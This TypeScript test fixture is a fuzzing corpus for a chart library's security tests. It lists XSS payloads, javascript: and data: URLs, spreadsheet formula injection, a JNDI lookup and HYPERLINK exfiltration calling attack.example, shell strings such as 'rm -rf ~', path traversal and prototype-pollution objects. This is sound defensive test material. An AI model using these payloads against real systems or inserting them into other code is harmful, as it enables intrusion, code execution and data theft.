/**
 * The corpus: values that have broken other chart libraries, or could break this one. It only grows. Whoever finds a new
 * kind of attack adds it here, and every field of every chart type is tried with it in every output.
 */

/** What runs when a payload is taken for code: no test may ever see it set. */
export const SENTINEL = 'socialWorkChartWasAttacked';

const RUN = `globalThis.${SENTINEL}=1`;

/** Texts, by what they try. Each is short enough to be a label. */
export const TEXTS: Readonly<Record<string, string>> = {
  // Markup in element content.
  'a script': `<script>${RUN}</script>`,
  'a script in capitals with spaces': `<ScRiPt\t src=data:,${RUN} >`,
  'an image that fails': `<img src=x onerror="${RUN}">`,
  'an image without quotes': `<img/src=x/onerror=${RUN}//`,
  'an SVG that loads': `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  'an SVG with a script of its own': `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  'a use of a foreign file': '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)/>#x"/></svg>',
  'a foreign object': `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="${RUN}"/></foreignObject>`,
  'MathML that hides an attribute': `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}></style></mglyph>`,
  'a template with a shadow root': `<template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  'a frame with a page': `<iframe srcdoc="<script>parent.${SENTINEL}=1</script>"></iframe>`,
  'an object': `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  'a base address': '<base href="https://attack.example/"><link rel=import href=//attack.example/x>',
  'a form': `<form action="javascript:${RUN}"><button formaction="javascript:${RUN}">ok</button></form>`,
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://attack.example/">',
  'details that open': `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'an element of ours': `<social-work-chart chart="x" onclick="${RUN}"><slot onslotchange="${RUN}">`,
  // Ways out of what stands around.
  'an end of an attribute': `" onfocus="${RUN}" autofocus tabindex="1" x="`,
  'an end of an attribute in single quotes': `' onmouseover='${RUN}' x='`,
  'an end of an attribute without quotes': ` onmouseover=${RUN} `,
  'an end of an attribute in grave accents': `\`onmouseover=${RUN}\``,
  'an end of a script': `</script><script>${RUN}</script>`,
  'an end of a style sheet': `</style><img src=x onerror=${RUN}>`,
  'an end of a title': `</title></textarea></noscript></xmp></iframe><img src=x onerror=${RUN}>`,
  'an end of a table': `</td></tr></table></figure></svg></template><img src=x onerror=${RUN}>`,
  'an end of a section': `]]><img src="x" onerror="${RUN}"/><![CDATA[`,
  'an end of a comment': `--!><!--><img src=x onerror=${RUN}><!-- -->`,
  'an instruction and a declaration':
    '<?xml-stylesheet href="x"?><!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  entities: '&lt;script&gt; &#60;img&#62; &amp;amp; &colon; &Tab; &newline; &nosuch; &#0; &#xD800; &#1234567;',
  'an unfinished tag': '<a href="',
  'an unfinished entity': 'A&#x3c',
  // Addresses.
  'a script address': `javascript:${RUN}`,
  'a script address in mixed case': `JaVaScRiPt:${RUN}`,
  'a script address with a tab': `java\tscript:${RUN}`,
  'a script address with a line end': `java\nscript:${RUN}`,
  'a script address behind a control character': `\u0001javascript:${RUN}`,
  'a script address behind spaces': `  \u00a0javascript:${RUN}`,
  'a script address with entities': `&#106;avascript&colon;${RUN}`,
  'a script address in percent': `javascript%3A${RUN}`,
  'a script address that looks like the web': `javascript://news.example/%0A${RUN}`,
  'a data address': `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  'a data address of SVG': `data:image/svg+xml,<svg onload="${RUN}"/>`,
  'a vbscript address': 'vbscript:msgbox(1)',
  'a file address': 'file:///etc/passwd',
  'a blob address': 'blob:https://news.example/1',
  'an address without a scheme': '//attack.example/x',
  'an address with backslashes': 'https:\\\\attack.example\\x',
  'an address with a name and a password': 'https://news.example@attack.example/',
  'an address that ends its attribute': `https://news.example/" onclick="${RUN}`,
  'an address that is none': 'https://[',
  // Style.
  'a way out of a rule': '}*{display:none}</style>{',
  'a style with a picture': 'red;background:url(https://attack.example/x)',
  'an expression': 'expression(alert(1));@import "//attack.example/x.css";behavior:url(x)',
  'a reference of SVG': 'url(#x) url("javascript:alert(1)")',
  // Templates and code.
  'a template of JavaScript': '${globalThis.socialWorkChartWasAttacked=1} `${1}`',
  'a template of double braces': '{{constructor.constructor("globalThis.socialWorkChartWasAttacked=1")()}}',
  'a template of a server': '<%= 7*7 %> #{7*7} {% raw %} [[7*7]] <?php echo 1 ?> {!! 1 !!}',
  'a marker of Lit': '<!--?lit$123$--> lit$0 ?lit$ {{lit-',
  'replacement patterns': "$& $' $` $1 $<x> $$ %s %o %c \\u003cscript\\u003e \\",
  'a log that looks something up': '${jndi:ldap://attack.example/x}',
  'a command': '$(touch /tmp/x) `touch /tmp/x` ; rm -rf ~ | cat && :',
  // Formulas of spreadsheets.
  'a formula': '=HYPERLINK("https://attack.example/?"&A1,"click")',
  'a formula with a program': "=cmd|' /C calc'!A0",
  'a formula behind plus': '+1+cmd|x',
  'a formula behind minus': '-2+3+cmd|x',
  'a formula behind at': '@SUM(1+1)*cmd|x',
  'a formula behind a tab': '\t=1+1',
  'a formula behind a line end': '\r\n=1+1',
  'a formula behind a space': ' \u3000=1+1',
  'a formula in full width': '＝1+1',
  'cells and rows': 'a","=1+1"\r\n"=2+2,b;c\td',
  // Characters.
  'overrides of direction': 'a\u202ecod.exe\u202c\u2066\u2067\u2068\u2069\u200f\u200e\u061cb',
  controls: 'a\u0000\u0001\u0007\u0008\u000b\u000c\u001b[31m\u001b]0;x\u0007\u007f\u0080\u0085\u009b31mb',
  'line ends': 'a\rb\nc\r\nd\u2028e\u2029f\u0085g',
  'lone surrogates': 'a\ud800b\udc00c\udfff\ud800',
  'what is no character': 'a\ufffe\uffff\ufdd0\u{1ffff}\u{10ffff}b',
  'marks upon marks': `Z${'\u0301\u0489'.repeat(100)}`,
  'joined characters': '👩‍👩‍👧‍👦🏳️‍🌈\u{e0067}\u{e0062}\u{e007f}ﷺ',
  'right to left': 'שלום עולם العربية ١٢٣',
  'a byte order mark': '\ufeffa\ufeff',
  'interlinear signs': '\ufff9a\ufffab\ufffb\u206a\u206f',
  // Names.
  'a prototype': '__proto__',
  'a constructor': 'constructor',
  'a prototype of a constructor': 'constructor.prototype.polluted',
  'a method of objects': 'hasOwnProperty',
  'a path upwards': '../../../etc/passwd',
  'a path of Windows': '..\\..\\con.svg',
  'a name of a device': 'AUX',
  'a name that is an option': '--out=/tmp/x',
  // Sizes.
  'the longest text': 'W'.repeat(2000),
  'very many words': 'a '.repeat(300),
  'very many lines': 'a\n'.repeat(300),
  'very many tags': '<b>'.repeat(600),
  'very many quotes': `"'`.repeat(900),
  'spaces before a word': `${' '.repeat(1990)}=x`,
};

/** Texts that no dataset takes, in any field. */
export const REFUSED_TEXTS: Readonly<Record<string, string>> = {
  'a label of a million characters': 'x'.repeat(1_000_000),
  'a label of a million tags': '<b>'.repeat(400_000),
  'nothing but spaces': ' \t\n\u3000',
  'nothing at all': '',
  'broken characters': 'a\ufffdb',
};

/** Texts of which nobody sees anything. */
export const UNSEEN_TEXTS: Readonly<Record<string, string>> = {
  'zero width alone': '\u200b\u200c\u200d\u2060',
  'direction alone': '\u202e',
  'a joiner alone': '\u{e0001}\u{e0020}',
};

/** Numbers. */
export const NUMBERS: Readonly<Record<string, number>> = {
  NaN: NaN,
  Infinity: Infinity,
  'minus Infinity': -Infinity,
  'minus zero': -0,
  'one e 308': 1e308,
  'minus one e 308': -1e308,
  'the largest that is taken': 1e18,
  'the least that is taken': -1e18,
  'the smallest': 5e-324,
  'a hair above zero': 1e-18,
  'a whole number that is none': 2 ** 53 + 2,
  'a day that no calendar has': 2 ** 31,
  'a number in exponents': 1e21,
  'a third': 1 / 3,
  one: 1,
  'minus one': -1,
};

function throwing(): never {
  throw new Error('looked at');
}

/** Values that are neither a text nor a number; made anew each time, so that no test changes what another gets. */
export const THINGS: Readonly<Record<string, () => unknown>> = {
  null: () => null,
  undefined: () => undefined,
  true: () => true,
  false: () => false,
  'an empty list': () => [],
  'a list of markup': () => [`<img src=x onerror="${RUN}">`],
  'a list in a list': () => [[[`<img src=x onerror="${RUN}">`]]],
  'an object': () => ({ a: 1 }),
  'an object with event handlers': () => ({ onclick: RUN, onload: RUN, style: 'color:red', href: `javascript:${RUN}` }),
  'a text with event handlers beside it': () => ({
    zh: 'a',
    en: 'b',
    onclick: RUN,
    innerHTML: `<img onerror="${RUN}">`,
  }),
  'an object with a prototype': () => JSON.parse('{"__proto__":{"polluted":1},"zh":"a","en":"b"}') as unknown,
  'an object with a constructor': () => JSON.parse('{"constructor":{"prototype":{"polluted":1}}}') as unknown,
  'an object with a prototype as its own': () => JSON.parse('{"prototype":{"polluted":1}}') as unknown,
  'a prototype in a list in an object': () => JSON.parse('[{"a":[{"__proto__":{"polluted":1}}]}]') as unknown,
  'an object that looks like a template of Lit': () => ({
    _$litType$: 1,
    strings: [`<img onerror="${RUN}">`],
    values: [],
  }),
  'an object that looks like an element of React': () => ({ $$typeof: 'x', type: 'script', props: { children: RUN } }),
  'a text that is an object': () => ({ length: 3, 0: '<', 1: 'b', 2: '>' }),
  'a text in a box': () => Object(`<img onerror="${RUN}">`) as unknown,
  'a function': () => throwing,
  'a symbol': () => Symbol('s'),
  'a large integer': () => 10n ** 30n,
  'an object that is a text when asked': () => ({ toString: () => `<img onerror="${RUN}">`, valueOf: () => 1 }),
  'an object that is JSON when asked': () => ({ toJSON: () => `<img onerror="${RUN}">` }),
  'an accessor that throws': () => Object.defineProperty({}, 'zh', { enumerable: true, get: throwing }),
  'an accessor that answers': () => Object.defineProperties({}, { zh: answering(), en: answering() }),
  'a proxy that throws': () =>
    new Proxy({}, { get: throwing, ownKeys: throwing, getPrototypeOf: throwing, has: throwing }),
  'a proxy of a list that lies': () =>
    new Proxy(['a'], { get: (_, key) => (key === 'length' ? 1e9 : `<${String(key)}>`) }),
  'a revoked proxy': () => {
    const { proxy, revoke } = Proxy.revocable({}, {});
    revoke();
    return proxy;
  },
  'a cycle': () => {
    const cycle: Record<string, unknown> = { zh: 'a', en: 'b' };
    cycle['self'] = cycle;
    return cycle;
  },
  'a deep list': () => Array.from({ length: 10_000 }).reduce<unknown>((inner) => [inner], 1),
  'a date': () => new Date(0),
  'a map': () => new Map([['zh', '<b>']]),
};

/** An accessor with another answer each time. */
function answering(): PropertyDescriptor {
  let asked = 0;
  return { enumerable: true, get: () => (asked++ === 0 ? 'a' : `<img onerror="${RUN}">`) };
}

/** Names for what has an id: figures, charts, units. */
export const NAMES: readonly string[] = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
  'length',
  'innerHTML',
  'onclick',
  'style',
  '',
  ' ',
  '-a',
  '.a',
  '"',
  `a" onclick="${RUN}`,
  `<img onerror=${RUN}>`,
  'a]{}*{display:none}',
  '../a',
  'a b',
  'a\u0000b',
  'a\u202eb',
  '\ud800',
  'x'.repeat(65),
  'x'.repeat(1_000_000),
  '图',
  '0',
  'NaN',
];
